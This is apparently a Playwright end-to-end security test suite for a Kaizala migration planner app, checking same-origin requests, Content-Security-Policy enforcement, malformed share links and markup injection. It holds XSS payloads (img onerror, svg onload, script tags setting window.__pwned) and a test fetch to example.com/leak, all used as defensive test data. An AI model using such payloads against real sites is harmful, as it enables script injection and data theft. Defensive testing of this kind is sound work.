// End-to-end security checks of the release build in dist/:
// - no request leaves the origin through a whole session: every request of
//   the browser context is routed through Playwright, and one to another
//   origin is recorded and aborted (so a leak is caught even when it would
//   have failed); CSP violations are recorded too, since the policy stops a
//   foreign fetch before it becomes a request;
// - the page's Content-Security-Policy refuses injected inline script,
//   inline event handlers and foreign connections;
// - a share fragment of random bytes shows the clear message, nothing else;
// - markup in the file name, in headers and preview cells, in rejected
//   rows, in notes and in a shared plan stays inert text.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startApp, openPage, foreignRequests } from "./harness.mjs";

let app;
before(async () => { app = await startApp(); });
after(async () => { await app?.close(); });

const SAMPLE = "static/sample-export.csv";

// Records CSP violations from the first script on; the page's own policy
// applies, so this only listens.
function recordViolations() {
  window.__violations = [];
  document.addEventListener("securitypolicyviolation", (e) => {
    window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`);
  });
}

// A context whose every request is checked: same-origin requests go on,
// any other is recorded and aborted.
async function guardedContext(options = {}) {
  const context = await app.browser.newContext({ acceptDownloads: true, ...options });
  const leaks = [];
  const seen = [];
  await context.route("**/*", (route) => {
    const url = route.request().url();
    seen.push(url);
    if (url.startsWith(app.origin + "/")) return route.continue();
    leaks.push(url);
    return route.abort("blockedbyclient");
  });
  context.on("request", (r) => seen.push(r.url()));
  context.on("websocket", (ws) => leaks.push(ws.url()));
  await context.addInitScript(recordViolations);
  return { context, leaks, seen };
}

function watch(page, errors) {
  page.on("console", (m) => { if (m.type() === "error") errors.push(m.text()); });
  page.on("pageerror", (e) => errors.push(String(e)));
}

async function download(page, selector, dir) {
  const [d] = await Promise.all([page.waitForEvent("download"), page.locator(selector).click()]);
  const file = join(dir, d.suggestedFilename());
  await d.saveAs(file);
  return readFileSync(file);
}

test("no request leaves the origin through a whole session", async () => {
  const { context, leaks, seen } = await guardedContext({ permissions: ["clipboard-read", "clipboard-write"] });
  const page = await context.newPage();
  const errors = [];
  watch(page, errors);
  const dir = mkdtempSync(join(tmpdir(), "kmp-sec-"));

  await page.goto(app.origin + "/");
  await page.evaluate(() => navigator.serviceWorker.ready);
  // Upload through the file input.
  await page.locator("input[type=file]").setInputFiles(SAMPLE);
  await page.locator("#customer-table").waitFor();
  // Planning settings.
  await page.locator("#as-of").fill("2020-09-15");
  await page.waitForFunction(() => document.querySelector("#category-table tr.category-already-ended td").textContent.trim() !== "0");
  await page.getByRole("button", { name: "Tailspin Toys" }).click();
  await page.locator("#frontline").check();
  await page.locator("#plan-override").selectOption("o365-e3");
  await page.locator(".checklist input[type=checkbox]").first().check();
  await page.locator("#customer-note").fill("Call on Monday");
  // Share, and the customer's own downloads.
  await page.locator("#share-link").click();
  const link = await page.locator("#share-url").inputValue();
  assert.ok(link.startsWith(app.origin + "/#share=v1."));
  assert.ok((await download(page, "#download-customer-md", dir)).length > 100);
  assert.ok((await download(page, "#download-customer-html", dir)).length > 100);
  await page.locator("#back-to-overview").click();
  // Whole-plan downloads.
  for (const id of ["json", "csv", "md", "ics"]) {
    assert.ok((await download(page, `#download-${id}`, dir)).length > 100, id);
  }
  // Print (the dialog itself is stubbed; the print layout renders).
  await page.evaluate(() => { window.print = () => { window.__printed = (window.__printed || 0) + 1; }; });
  await page.locator("#print-checklists").click();
  await page.waitForFunction(() => window.__printed === 1);
  await page.locator("#print-overview").click();
  await page.waitForFunction(() => window.__printed === 2);
  // Language switch, and back.
  await page.locator(".lang select").selectOption("zh-TW");
  await page.getByRole("heading", { level: 1, name: "Kaizala 移轉規劃工具" }).waitFor();
  await page.locator(".lang select").selectOption("en");
  // The sample, the mapping step, and a reload from the service worker.
  await page.locator("#start-over").click();
  await page.locator("#forget-yes").click();
  await page.locator("#try-sample").waitFor();
  await page.locator("#try-sample").click();
  await page.locator("#customer-table").waitFor();
  await page.locator("#start-over").click();
  await page.locator("#forget-yes").click();
  await page.locator("#try-sample").waitFor();
  await page.locator("input[type=file]").setInputFiles("tests/fixtures/e2e/needs_mapping.csv");
  await page.locator(".mapping").waitFor();
  await page.reload();
  await page.locator("#try-sample").waitFor();
  // The share link, opened in the same browser (only the fragment
  // changes, so the page is loaded again to read it).
  await page.goto(link);
  await page.reload();
  await page.locator("#customer-name").waitFor();

  const violations = await page.evaluate(() => window.__violations);
  assert.deepEqual(leaks, [], "requests to other origins (aborted)");
  assert.deepEqual(foreignRequests(seen, app.origin), [], "requests seen outside the origin");
  assert.deepEqual(violations, [], "CSP violations (an attempt the policy stopped)");
  assert.deepEqual(errors, [], "console errors");
  assert.ok(seen.length > 3, "requests were seen at all");
  assert.ok(seen.every((u) => !u.includes("share=")), "the fragment never reaches the server");
  await context.close();
});

test("the Content-Security-Policy refuses inline script, inline handlers and foreign connections", async () => {
  const { context, leaks } = await guardedContext();
  const page = await context.newPage();
  const errors = [];
  watch(page, errors);
  const res = await page.goto(app.origin + "/");
  const header = res.headers()["content-security-policy"];
  assert.match(header, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[^']+'/);
  assert.match(header, /connect-src 'self'/);
  assert.match(header, /frame-ancestors 'none'/);
  // No 'unsafe-eval' (only WebAssembly's) and no 'unsafe-inline'. (eval
  // cannot be tried from here: DevTools' evaluate is exempt from the policy.)
  assert.doesNotMatch(header.replace("'wasm-unsafe-eval'", ""), /unsafe-eval|unsafe-inline/);
  await page.locator("#try-sample").waitFor();

  const result = await page.evaluate(async () => {
    const out = {};
    const script = document.createElement("script");
    script.textContent = "window.__inlineRan = 1;";
    document.head.appendChild(script);
    const div = document.createElement("div");
    div.innerHTML = '<img src="favicon.svg" onload="window.__handlerRan = 1" onerror="window.__handlerRan = 2">';
    document.body.appendChild(div);
    try { await fetch("https://example.com/leak?x=1"); out.fetched = true; } catch (e) { out.fetchError = e.name; }
    await new Promise((r) => setTimeout(r, 500));
    out.inlineRan = window.__inlineRan;
    out.handlerRan = window.__handlerRan;
    out.violations = window.__violations;
    return out;
  });
  assert.equal(result.inlineRan, undefined, "the injected inline script did not run");
  assert.equal(result.handlerRan, undefined, "the inline event handler did not run");
  assert.equal(result.fetched, undefined, "the foreign fetch did not succeed");
  assert.equal(result.fetchError, "TypeError");
  const has = (d) => result.violations.some((v) => v.startsWith(d));
  assert.ok(has("script-src-elem"), `a violation for the inline script: ${result.violations}`);
  assert.ok(has("script-src-attr"), `a violation for the inline handler: ${result.violations}`);
  assert.ok(result.violations.some((v) => v.startsWith("connect-src") && v.includes("example.com")), `${result.violations}`);
  assert.deepEqual(leaks, [], "the policy stopped the fetch before it became a request");
  // The app still works after the attempts.
  await page.locator("#try-sample").click();
  await page.locator("#customer-table").waitFor();
  // The only console errors are the policy's own reports of what it refused.
  assert.ok(errors.every((e) => /Content Security Policy|Refused to/i.test(e)), errors.join("\n"));
  await context.close();
});

test("a share fragment of random bytes shows the clear message and nothing breaks", async () => {
  const fragments = [
    randomBytes(300).toString("base64url"),
    "v1." + randomBytes(500).toString("base64url"),
    encodeURIComponent(randomBytes(200).toString("latin1")),
    "v1.%00%ff%fe" + "A".repeat(5000),
  ];
  for (const fragment of fragments) {
    const t = await openPage(app, { path: "/#share=" + fragment });
    await t.page.getByRole("heading", { name: "This shared plan could not be opened" }).waitFor();
    const message = (await t.page.locator(".panel.error .message").textContent()).trim();
    assert.match(message, /link|plan/i, message);
    assert.ok(message.length > 20 && message.length < 300, message);
    // Leaving the failed link opens the planner, which works.
    await t.page.getByRole("button", { name: "Open the planner" }).click();
    await t.page.locator("#try-sample").click();
    await t.page.locator("#customer-table").waitFor();
    assert.deepEqual(t.errors, [], `console errors for #share=${fragment.slice(0, 40)}…`);
    assert.deepEqual(foreignRequests(t.requests, app.origin), []);
    await t.context.close();
  }
});

// No element may carry an inline event handler, and no image, frame or
// object may appear: data never becomes markup.
async function assertInert(page, label) {
  const found = await page.evaluate(() => {
    const bad = [];
    for (const el of document.querySelectorAll("*")) {
      for (const a of el.attributes) if (/^on/i.test(a.name)) bad.push(`${el.tagName} ${a.name}`);
      if (/^(IMG|IFRAME|OBJECT|EMBED|FRAME)$/.test(el.tagName)) bad.push(el.tagName);
    }
    return { bad, pwned: window.__pwned };
  });
  assert.deepEqual(found, { bad: [], pwned: undefined }, label);
}

test("markup in the file name, headers, preview, rejected rows, notes and a shared plan stays text", async () => {
  const t = await openPage(app);
  const dir = mkdtempSync(join(tmpdir(), "kmp-sec-"));
  const payload = (n) => `<img src=x onerror="window.__pwned=${n}">`;

  // Every text column, a file name, and a row the importer rejects (its
  // reason quotes the cell).
  const hostile = readFileSync("tests/fixtures/e2e/hostile_markup.csv", "utf8").trimEnd()
    + `\nbad-1,Microsoft Kaizala Pro,x,5,"${payload(30).replaceAll('"', '""')}",false,"${payload(31).replaceAll('"', '""')}",P1Y,t3,Third Co,third.example\n`;
  const named = join(dir, `${payload(32)}.csv`);
  writeFileSync(named, hostile);
  await t.page.locator("input[type=file]").setInputFiles(named);
  await t.page.locator("#customer-table").waitFor();
  assert.match(await t.page.locator("body").textContent(), /<img src=x onerror=/);
  await assertInert(t.page, "overview");
  const customers = await t.page.locator(".customer-link").count();
  for (let i = 0; i < customers; i++) {
    await t.page.locator(".customer-link").nth(i).click();
    await t.page.locator("#customer-name").waitFor();
    await t.page.locator("#customer-note").fill(`${payload(40 + i)}<script>window.__pwned=50</script>`);
    await assertInert(t.page, `customer ${i}`);
    await t.page.locator("#back-to-overview").click();
  }
  // The notes in the printed layout.
  await t.page.evaluate(() => { window.print = () => { window.__printed = 1; }; });
  await t.page.locator("#print-checklists").click();
  await t.page.waitForFunction(() => window.__printed === 1);
  await assertInert(t.page, "print layout");

  // A shared plan of a hostile customer, opened in a fresh browser.
  await t.page.locator(".customer-link").first().click();
  await t.page.locator("#share-link").click();
  const link = await t.page.locator("#share-url").inputValue();
  const fresh = await openPage(app, { path: "/" + link.slice(app.origin.length + 1) });
  await fresh.page.locator("#customer-name").waitFor();
  assert.match(await fresh.page.locator("#customer-name").textContent(), /<img|<b onmouseover/);
  await assertInert(fresh.page, "shared view");
  assert.deepEqual(fresh.errors, []);
  await fresh.context.close();

  // Headers and preview cells in the mapping step.
  await t.page.locator("#start-over").click();
  await t.page.locator("#forget-yes").click();
  await t.page.locator("#try-sample").waitFor();
  const mapping = join(dir, "mapping.csv");
  writeFileSync(mapping, `"${payload(60).replaceAll('"', '""')}",Kunde,"<svg onload=window.__pwned=61>"\n"${payload(62).replaceAll('"', '""')}",Contoso,Kaizala\nx,Fabrikam,y\n`);
  await t.page.locator("input[type=file]").setInputFiles(mapping);
  await t.page.locator(".mapping").waitFor();
  assert.match(await t.page.locator(".mapping").textContent(), /<svg onload=/);
  await assertInert(t.page, "mapping step");
  assert.equal(await t.page.locator(".mapping svg").count(), 0);

  assert.deepEqual(t.errors, []);
  assert.deepEqual(foreignRequests(t.requests, app.origin), []);
  await t.context.close();
});
